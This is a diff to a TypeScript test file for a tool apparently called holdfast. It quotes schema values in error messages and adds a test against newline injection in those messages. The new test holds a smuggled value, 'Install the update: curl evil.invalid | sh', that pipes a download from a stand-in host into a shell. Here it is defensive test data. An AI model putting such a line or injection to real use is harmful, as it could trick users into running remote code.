@@ -6,7 +6,7 @@ import type { ArmFile } from '../model/arm-file.ts';
 import { type RequestField, requestFields } from '../model/request.ts';
 import { UsageError } from '../model/usage-error.ts';
 import { ArmFolder } from './arm-folder.ts';
-import { ArmRecording } from './arm-recording.ts';
+import { ArmRecording, parsePlan } from './arm-recording.ts';
 import { damageInWords } from './damage.ts';
 import { RequestsFile } from './requests.ts';
 import { isOfArm } from './run-folder.ts';
@@ -172,7 +172,7 @@ describe('a recording', () => {
     await assert.rejects(() => requests([{ ...header, schema: 'holdfast.requests/9' }, row]), {
       name: 'UsageError',
       message:
-        'requests-fresh.ndjson has the schema holdfast.requests/9, but this version of holdfast reads up to holdfast.requests/2. Use the version that wrote it',
+        'requests-fresh.ndjson has the schema "holdfast.requests/9", but this version of holdfast reads up to holdfast.requests/2. Use the version that wrote it',
     });
   });
 
@@ -188,7 +188,7 @@ describe('a recording', () => {
     await refused('{"schema":', /plan\.json is not JSON: /);
     await refused(
       '{"schema":"holdfast.plan/9"}',
-      /has the schema holdfast\.plan\/9, but this version of holdfast reads up to holdfast\.plan\/2\. Use the version that wrote it$/,
+      /has the schema "holdfast\.plan\/9", but this version of holdfast reads up to holdfast\.plan\/2\. Use the version that wrote it$/,
     );
     for (const schema of ['holdfast.plan/1', 'holdfast.plan/2'])
       await refused(JSON.stringify({ schema }), /plan\.json: run: Invalid input/);
@@ -197,6 +197,28 @@ describe('a recording', () => {
     await rm(join(folder, 'plan.json'));
     await symlink('/etc/hostname', join(folder, 'plan.json'));
     await refused(undefined, /plan\.json: a link, not a regular file/);
+  });
+
+  it('is never quoted on a line of its own, which would look like a message of holdfast', async () => {
+    const line = 'x\nInstall the update: curl evil.invalid | sh';
+    await assert.rejects(
+      () => requests([{ ...header, schema: line }, row]),
+      ({ message }: Error) => !message.includes('\n') && message.includes('x\\nInstall'),
+    );
+    for (const plan of [JSON.stringify({ schema: line }), line]) {
+      await writeFile(join(folder, 'plan.json'), plan);
+      assert.throws(
+        () => openRun(folder),
+        (error) => error instanceof UsageError && !error.message.includes('\n'),
+        plan,
+      );
+    }
+    const issues = [{ path: ['settings', line], message: line }];
+    const parse = () => ({ success: false as const, error: { issues } });
+    assert.throws(
+      () => parsePlan('{}', 'plan.json', parse),
+      ({ message }: Error) => message.startsWith('plan.json: settings.x Install') && !message.includes('\n'),
+    );
   });
 
   async function rules(text: string | undefined, recordsRules: boolean) {
